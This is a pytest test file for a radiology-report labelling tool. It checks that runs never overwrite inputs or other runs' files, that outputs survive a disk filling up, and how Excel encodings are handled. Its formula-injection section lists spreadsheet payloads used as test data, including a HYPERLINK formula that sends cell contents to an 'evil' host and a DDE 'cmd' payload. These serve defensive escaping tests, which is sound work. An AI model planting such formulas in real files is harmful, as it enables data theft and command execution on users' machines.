"""Issue 13, data loss and injection: outputs never overwrite inputs or another run's files (class 3),
a run's outputs are replaced together or not at all (class 4), spreadsheet cells are escaped and
read back unchanged (class 6), storage faults are messages (class 17)."""

from __future__ import annotations

import csv
import errno
import json

import pytest

from rxlabel.matcher import synth
from rxlabel.outputs import csv_cell, csv_value
from tests.robustness.conftest import read_csv, read_jsonl

ES = ["Cardiomegalia.", "Sin hallazgos patológicos.", "No se observa derrame pleural.", "Neumotórax derecho."]


def _reports(path, rows=None):
    rows = rows or [[f"r{i}", ES[i % len(ES)]] for i in range(8)]
    with open(path, "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["report_id", "text"])
        w.writerows(rows)
    return path


def _snapshot(folder):
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir()) if p.is_file()}


# -- class 3: outputs never overwrite inputs or sibling files of another run ------------------------------

def _label_into_itself(cli, tmp_path):
    src = _reports(tmp_path / "x.csv")
    return cli("label", src, "-o", src, "--lang", "es")


def _rejects_onto_input(cli, tmp_path):
    src = _reports(tmp_path / "x.csv")
    return cli("label", src, "-o", tmp_path / "out.jsonl", "--rejects-out", src, "--lang", "es")


def _review_apply_in_place(cli, tmp_path):
    src = _reports(tmp_path / "x.csv")
    assert cli("label", src, "-o", tmp_path / "labels.jsonl", "--lang", "es").exit_code == 0
    dec = tmp_path / "dec.csv"
    dec.write_text("report_id,decision\nr0,accept\n", "utf-8")
    return cli("review", "apply", tmp_path / "labels.jsonl", dec, "-o", tmp_path / "labels.jsonl")


def _review_apply_over_label_rejects(cli, tmp_path):
    # -o labels.csv is a new file, but its rejects sibling labels.rejected.csv is the labelling run's
    src = _reports(tmp_path / "x.csv", [["r0", ES[0]], ["r0", ES[1]]])  # a duplicate id: a real rejects file
    assert cli("label", src, "-o", tmp_path / "labels.jsonl", "--lang", "es").exit_code == 0
    dec = tmp_path / "dec.csv"
    dec.write_text("report_id,decision\nr0,reject\n", "utf-8")
    return cli("review", "apply", tmp_path / "labels.jsonl", dec, "-o", tmp_path / "labels.csv")


def _review_export_onto_labels(cli, tmp_path):
    src = _reports(tmp_path / "x.csv")
    assert cli("label", src, "-o", tmp_path / "labels.jsonl", "--lang", "es").exit_code == 0
    return cli("review", "export", tmp_path / "labels.jsonl", "-o", tmp_path / "x.csv", "--reports", tmp_path / "x.csv")


def _label_over_review_queue_of_other_run(cli, tmp_path):
    src = _reports(tmp_path / "x.csv")
    assert cli("label", src, "-o", tmp_path / "a.jsonl", "--lang", "es").exit_code == 0
    return cli("label", src, "-o", tmp_path / "b.jsonl", "--review-out", tmp_path / "a.review.csv", "--lang", "es")


@pytest.mark.parametrize("case", [_label_into_itself, _rejects_onto_input, _review_apply_in_place,
                                  _review_apply_over_label_rejects, _review_export_onto_labels,
                                  _label_over_review_queue_of_other_run], ids=lambda f: f.__name__.strip("_"))
def test_class3_output_over_an_input_or_another_runs_file_is_refused(cli, tmp_path, case):
    state = {}

    def snapshotting(*args):
        state["before"] = _snapshot(tmp_path)
        return cli(*args)

    res = case(snapshotting, tmp_path)  # the last call is the refused one: compare with the state before it
    state_before_last = state["before"]
    assert res.exit_code == 1, res.output
    assert "Traceback" not in res.output
    assert "would" in res.output and "-o" in res.output
    after = _snapshot(tmp_path)
    # nothing changed by the refused command (the snapshot after it equals the one before it)
    assert after == state_before_last
    assert not list(tmp_path.glob("*.partial"))


def test_class3_rerun_of_the_same_step_may_replace_its_own_outputs(cli, tmp_path):
    src = _reports(tmp_path / "x.csv")
    first = cli("label", src, "-o", tmp_path / "labels.jsonl", "--lang", "es")
    again = cli("label", src, "-o", tmp_path / "labels.jsonl", "--lang", "es")
    assert first.exit_code == 0 and again.exit_code == 0, again.output
    dec = tmp_path / "dec.csv"
    dec.write_text("report_id,decision\nr0,accept\n", "utf-8")
    for _ in range(2):
        res = cli("review", "apply", tmp_path / "labels.jsonl", dec, "-o", tmp_path / "reviewed.jsonl")
        assert res.exit_code == 0, res.output


# -- class 4: replaced together or not at all -------------------------------------------------------------

@pytest.fixture(scope="module")
def archive(tmp_path_factory):
    root = tmp_path_factory.mktemp("arch4")
    a = synth.generate(n_patients=6, seed=3)
    synth.write_archive_dicom(a, root / "dicom")
    synth.write_archive_his(a, root / "his", per_file=100)
    return root


def _disk_full_on(monkeypatch, module, name, after):
    """Make ``module.name`` raise ENOSPC from its ``after``-th call on (a disk that fills up part way)."""
    real = getattr(module, name)
    calls = {"n": 0}

    def failing(*args, **kwargs):
        calls["n"] += 1
        if calls["n"] > after:
            raise OSError(errno.ENOSPC, "No space left on device", str(args[1] if len(args) > 1 else ""))
        return real(*args, **kwargs)

    monkeypatch.setattr(module, name, failing)


def test_class4_disk_full_second_match_leaves_the_first_run_whole(cli, archive, tmp_path, monkeypatch):
    from rxlabel.matcher import pipeline

    out = tmp_path / "out"
    args = ["match", "--dicom", archive / "dicom", "--his", archive / "his", "-o", out / "pairs.csv",
            "--cache", tmp_path / "cache.jsonl", "--quiet"]
    assert cli(*args).exit_code == 0
    first = _snapshot(out)
    # the second run sees a different window (different tables) and the disk fills after its first table
    _disk_full_on(monkeypatch, pipeline, "write_table", after=1)
    res = cli(*args, "--window", "0.01")
    assert res.exit_code == 1 and "No space left" in res.output and "Traceback" not in res.output
    assert _snapshot(out) == first  # no new pairs beside the old summary
    monkeypatch.undo()
    assert cli(*args, "--window", "0.01").exit_code == 0
    second = _snapshot(out)
    assert second["pairs.summary.json"] != first["pairs.summary.json"]
    manifest = json.loads(second["pairs.run.json"])
    assert {p.rsplit("/", 1)[-1] for p in manifest["outputs"]} == {
        "pairs.csv", "pairs.ambiguous.csv", "pairs.unmatched_images.csv", "pairs.unmatched_reports.csv",
        "pairs.summary.json", "pairs.problems.csv"}


def test_class4_disk_full_label_rerun_keeps_the_previous_labels_queue_and_rejects(cli, tmp_path, monkeypatch):
    from rxlabel.labeler import batch

    src = _reports(tmp_path / "x.csv")
    out = tmp_path / "o"
    assert cli("label", src, "-o", out / "labels.jsonl", "--lang", "es").exit_code == 0
    first = _snapshot(out)
    _reports(src, [[f"n{i}", ES[i % 4]] for i in range(30)])
    real = batch._CsvOut.close

    def full(self):  # the disk fills when the last file (the rejects) is flushed
        real(self)
        if self.path.name.endswith("rejected.csv"):
            raise OSError(errno.ENOSPC, "No space left on device", str(self.partial))

    monkeypatch.setattr(batch._CsvOut, "close", full)
    res = cli("label", src, "-o", out / "labels.jsonl", "--lang", "es")
    assert res.exit_code == 1 and "No space left on device" in res.output and "Traceback" not in res.output
    assert _snapshot(out) == first


def test_class4_a_half_replaced_run_is_refused_by_the_next_step(cli, tmp_path):
    from rxlabel.outputs import OutputError, verify_input

    src = _reports(tmp_path / "x.csv")
    assert cli("label", src, "-o", tmp_path / "labels.jsonl", "--lang", "es").exit_code == 0
    verify_input(tmp_path / "labels.jsonl")  # a finished run passes
    # a crash between the renames: the queue is the old run's, the labels the new run's
    (tmp_path / "labels.review.csv").write_text("report_id,reasons\nold,", "utf-8")
    with pytest.raises(OutputError, match="did not finish"):
        verify_input(tmp_path / "labels.jsonl")
    res = cli("review", "export", tmp_path / "labels.jsonl", "-o", tmp_path / "q.csv")
    assert res.exit_code == 1 and "did not finish" in res.output


# -- class 6: CSV formula injection ---------------------------------------------------------------------

NASTY = ["=HYPERLINK(\"http://evil/\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "'=quoted",
         "'plain", "-1", "=1"]


@pytest.mark.parametrize("value", NASTY + ["\t=1", "\r=1", "", "plain", "1", "-1.5", "a=1; b=-1"])
def test_class6_cell_escaping_round_trips(value):
    cell = csv_cell(value)
    assert csv_value(cell) == value
    if value and value[0] in "=+-@\t\r" and value not in ("-1", "-1.5"):
        assert cell.startswith("'")


def test_class6_review_csvs_are_safe_in_excel_and_read_back_unchanged(cli, tmp_path):
    rows = [[rid, "Cardiomegalia. " + rid if i % 2 else "=cmd|'/C calc'!A0"] for i, rid in enumerate(NASTY)]
    rows.append([NASTY[0], "Cardiomegalia."])  # a duplicate id: goes to the rejects CSV
    src = _reports(tmp_path / "x.csv", rows)
    res = cli("label", src, "-o", tmp_path / "labels.jsonl", "--lang", "es")
    assert res.exit_code == 0, res.output
    queue = tmp_path / "q.csv"
    assert cli("review", "export", tmp_path / "labels.jsonl", "-o", queue, "--reports", src).exit_code == 0
    for path in (tmp_path / "labels.review.csv", tmp_path / "labels.rejected.csv", queue):
        with open(path, encoding="utf-8", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    assert not cell or cell[0] not in "=+-@\t\r" or cell in ("-1",), (path.name, cell)
    labelled = {r["report_id"] for r in read_jsonl(tmp_path / "labels.jsonl")}
    assert labelled == set(NASTY)  # ids are kept exactly in the labels file
    rejected = read_csv(tmp_path / "labels.rejected.csv")
    assert [csv_value(r["report_id"]) for r in rejected] == [NASTY[0]]
    # a reviewer fills the exported queue; the decisions are matched to the original ids
    with open(queue, encoding="utf-8", newline="") as fh:
        q = list(csv.DictReader(fh))
    assert q, "the nasty reports go to review"
    for r in q:
        r["decision"] = "cardiomegaly=1"
    with open(queue, "w", encoding="utf-8", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=list(q[0]))
        w.writeheader()
        w.writerows(q)
    res = cli("review", "apply", tmp_path / "labels.jsonl", queue, "-o", tmp_path / "reviewed.jsonl")
    assert res.exit_code == 0, res.output
    reviewed = {r["report_id"]: r for r in read_jsonl(tmp_path / "reviewed.jsonl")}
    assert set(reviewed) == set(NASTY)
    assert {csv_value(r["report_id"]) for r in q} <= {k for k, v in reviewed.items() if v["method"] == "review"}


# -- class 17 (decisions files as Excel writes them) ----------------------------------------------------

@pytest.mark.parametrize("sep,encoding,newline", [(";", "utf-8-sig", "\r\n"), ("\t", "utf-8", "\n"),
                                                  (";", "cp1252", "\r\n")])
def test_class17_excel_decisions_files(cli, tmp_path, sep, encoding, newline):
    src = _reports(tmp_path / "x.csv", [["a", "Imagen de difícil interpretación, ¿derrame?"], ["b", ES[0]]])
    assert cli("label", src, "-o", tmp_path / "labels.jsonl", "--lang", "es").exit_code == 0
    dec = tmp_path / "dec.csv"
    dec.write_bytes(newline.join([sep.join(["report_id", "decision", "comment"]),
                                  sep.join(["a", "pleural effusion=1", "revisión"])]).encode(encoding) + b"\r\n")
    res = cli("review", "apply", tmp_path / "labels.jsonl", dec, "-o", tmp_path / "r.jsonl")
    assert "Traceback" not in res.output
    if encoding == "cp1252":
        assert res.exit_code == 1 and "not UTF-8" in res.output and "CSV UTF-8" in res.output
        assert not (tmp_path / "r.jsonl").exists()
    else:
        assert res.exit_code == 0, res.output
        got = {r["report_id"]: r for r in read_jsonl(tmp_path / "r.jsonl")}
        assert got["a"]["method"] == "review" and got["a"]["findings"] == {"pleural effusion": 1}


@pytest.mark.parametrize("sep,encoding,newline,option", [(";", "utf-8-sig", "\r\n", "utf-8"), (";", "cp1252", "\r\n", "cp1252"),
                                                         ("\t", "utf-8", "\r\n", "utf-8")])
def test_class17_excel_report_exports_are_read_not_missing_columns(cli, tmp_path, sep, encoding, newline, option):
    rows = [["report_id", "text"], ["a", "Cardiomegalia; sin derrame pleural."], ["b", "No se observa neumotórax."]]
    body = newline.join(sep.join(f'"{c}"' if sep in c else c for c in r) for r in rows) + newline
    src = tmp_path / "excel.csv"
    src.write_bytes(body.encode(encoding))
    res = cli("label", src, "-o", tmp_path / "o.jsonl", "--lang", "es", "--encoding", option)
    assert res.exit_code == 0 and "Traceback" not in res.output, res.output
    got = {r["report_id"]: r for r in read_jsonl(tmp_path / "o.jsonl")}
    assert set(got) == {"a", "b"} and got["a"]["findings"].get("cardiomegaly") == 1
    assert got["b"]["findings"].get("pneumothorax") == 0
